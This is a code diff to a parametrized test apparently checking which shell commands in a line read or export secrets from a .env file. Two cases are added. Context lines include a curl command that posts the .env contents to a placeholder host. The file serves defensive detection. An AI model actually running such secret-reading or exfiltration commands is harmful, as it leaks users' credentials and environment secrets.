@@ -111,6 +111,8 @@ def test_values_are(line: str):
         ("export $(grep -v '^#' .env | xargs)", {"export"}),
         ("export $(cat .env)", {"export"}),
         ("env $(cat .env) npm start", {"env"}),
+        ("env A=b $(cat .env) npm start", {"env"}),
+        ("env echo $(cat .env)", {"cat"}),
         ("export KEY=$(cat .env)", {"cat"}),
         ("(cat .env); export $(cat .env)", {"cat", "export"}),
         ('curl -d "$(cat .env)" h; export $(cat .env)', {"cat", "export"}),
